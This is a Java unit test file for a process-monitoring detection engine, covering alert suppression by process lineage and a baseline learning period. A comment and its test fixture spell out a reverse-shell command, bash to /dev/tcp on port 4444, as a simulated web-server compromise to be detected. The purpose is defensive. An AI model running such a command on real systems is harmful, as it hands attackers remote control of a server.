package io.spawnwatch.rules;

import io.spawnwatch.rules.model.RuleSource;
import io.spawnwatch.rules.model.DetectionConfig;
import static io.spawnwatch.rules.BuiltinRuleFixture.UNUSUAL_COMMAND;
import static io.spawnwatch.rules.BuiltinRuleFixture.UNUSUAL_NETWORK;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.spawnwatch.event.Field;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The repeat-suppression key's lineage root, and the learning period of baseline rules. */
class LearningAndSuppressionTest {
    private static final long MINUTE = 60_000_000_000L;
    @TempDir
    Path dir;

    /** bash -i >& /dev/tcp/45.33.32.156/4444 from the lineage of the web server {@code rootPid}. */
    private static TestEvent reverseShell(int rootPid, long minute) {
        return TestEvent.connect().set(Field.PROCESS_NAME, "bash").set(Field.IMAGE, "/usr/bin/bash")
                .set(Field.USER, "www-data").set(Field.USER_ID, 33).set(Field.DESTINATION_IP, "45.33.32.156")
                .set(Field.DESTINATION_PORT, 4444).set(Field.LINEAGE_DEPTH, 2).set(Field.LINEAGE_ROOT_PID, rootPid)
                .atMinute(minute);
    }

    @Test
    void shouldAlertTheSameReverseShellFromASecondWebServerButNotItsRepeat() throws Exception {
        Rules.Collector alerts = new Rules.Collector();
        try (RuleEngine engine = RuleEngine.open(DetectionConfig.defaults(), RuleSource.builtin(), null)) {
            engine.evaluate(reverseShell(4000, 1), alerts); // the PHP application
            engine.evaluate(reverseShell(4000, 2), alerts); // its repeat: suppressed
            engine.evaluate(reverseShell(5000, 3), alerts); // the same shell from the Node application
        }
        assertEquals(List.of(UNUSUAL_NETWORK, UNUSUAL_NETWORK), alerts.titles());
    }

    @Test
    void shouldTellAReusedPidOfAWebServerFromTheServerItWas() throws Exception {
        Rules.Collector alerts = new Rules.Collector();
        try (RuleEngine engine = RuleEngine.open(DetectionConfig.defaults(), RuleSource.builtin(), null)) {
            engine.evaluate(reverseShell(4000, 1).set(Field.LINEAGE_ROOT_START, 111), alerts);
            engine.evaluate(reverseShell(4000, 2).set(Field.LINEAGE_ROOT_START, 111), alerts); // a repeat
            engine.evaluate(reverseShell(4000, 3).set(Field.LINEAGE_ROOT_START, 999), alerts); // restarted server
        }
        assertEquals(List.of(UNUSUAL_NETWORK, UNUSUAL_NETWORK), alerts.titles());
    }

    @Test
    void shouldEndEverySuppressionKeyWithTheLineageRoot() {
        assertEquals(List.of(Field.IMAGE, Field.DESTINATION_IP, Field.LINEAGE_ROOT_PID, Field.LINEAGE_ROOT_START),
                RuleEngine.withLineageRoot(List.of(Field.IMAGE, Field.DESTINATION_IP)));
        assertEquals(List.of(Field.LINEAGE_ROOT_PID, Field.IMAGE, Field.LINEAGE_ROOT_START),
                RuleEngine.withLineageRoot(List.of(Field.LINEAGE_ROOT_PID, Field.IMAGE)));
    }

    private static TestEvent shell(String command, long nanos) {
        return TestEvent.phpFpmChild("/usr/bin/dash", "sh", "sh -c " + command).at(nanos);
    }

    private static long nanos(Instant t) {
        return t.getEpochSecond() * 1_000_000_000L + t.getNano();
    }

    @Test
    void shouldLearnSilentlyUntilTheEndOfTheLearningPeriodThenAlertOnlyOnWhatIsNew() throws Exception {
        Path state = dir.resolve("baselines.db");
        DetectionConfig config = DetectionConfig.defaults().withStatePath(state.toString())
                .withLearningPeriod(Duration.ofDays(2));
        Rules.Collector alerts = new Rules.Collector();
        Instant start;
        try (RuleEngine engine = RuleEngine.open(config, RuleSource.builtin(), null)) {
            start = engine.learning().start();
            assertEquals(start.plus(Duration.ofDays(2)), engine.learning().end());
            long t = nanos(start) + MINUTE;
            engine.evaluate(shell("/usr/sbin/sendmail -t -i", t), alerts); // PHP mail(): day one
            assertEquals(List.of(), alerts.titles().stream().filter(UNUSUAL_COMMAND::equals).toList());
            RuleStats s = engine.stats().rules().stream().filter(r -> r.title().equals(UNUSUAL_COMMAND))
                    .findFirst().orElseThrow();
            assertEquals(1, s.suppressedByLearning());
            assertEquals(0, s.alerted());
        }
        assertEquals("rw-------", PosixFilePermissions.toString(
                Files.getPosixFilePermissions(LearningPeriod.startFile(state))));
        // A restart keeps the start: learning does not begin again.
        try (RuleEngine engine = RuleEngine.open(config, RuleSource.builtin(), null)) {
            assertEquals(start, engine.learning().start());
            long after = nanos(start.plus(Duration.ofDays(2))) + MINUTE; // inside the 7-day new-terms window
            engine.evaluate(shell("/usr/sbin/sendmail -t -i", after), alerts); // learnt: quiet
            engine.evaluate(shell("--", "id", after + MINUTE), alerts); // new after learning: alerts
        }
        assertEquals(List.of("sh -c -- id"), alerts.alerts.stream().filter(a -> a.title().equals(UNUSUAL_COMMAND))
                .map(Rules.Collector.Alert::commandLine).toList());
    }

    private static TestEvent shell(String flag, String command, long nanos) {
        return TestEvent.phpFpmChild("/usr/bin/dash", "sh", "sh -c " + flag + " " + command).at(nanos);
    }

    @Test
    void shouldRefuseALearningStartFileThatIsNotAnInstant() throws Exception {
        Path state = dir.resolve("baselines.db");
        Files.writeString(LearningPeriod.startFile(state), "last tuesday\n");
        DetectionException e = org.junit.jupiter.api.Assertions.assertThrows(DetectionException.StateStore.class,
                () -> LearningPeriod.open(state, Duration.ofDays(1), Instant.now()));
        assertTrue(e.getMessage().contains("baselines.db.learning-since: expected one ISO-8601 instant"),
                e.getMessage());
    }

    @Test
    void shouldHaveNoLearningPeriodByDefault() throws Exception {
        Rules.Collector alerts = new Rules.Collector();
        try (RuleEngine engine = RuleEngine.open(DetectionConfig.defaults(), RuleSource.builtin(), null)) {
            assertTrue(engine.learning().period().isZero());
            engine.evaluate(shell("/usr/sbin/sendmail -t -i", nanos(Instant.now())), alerts);
        }
        assertTrue(alerts.titles().contains(UNUSUAL_COMMAND), alerts.titles().toString());
    }
}
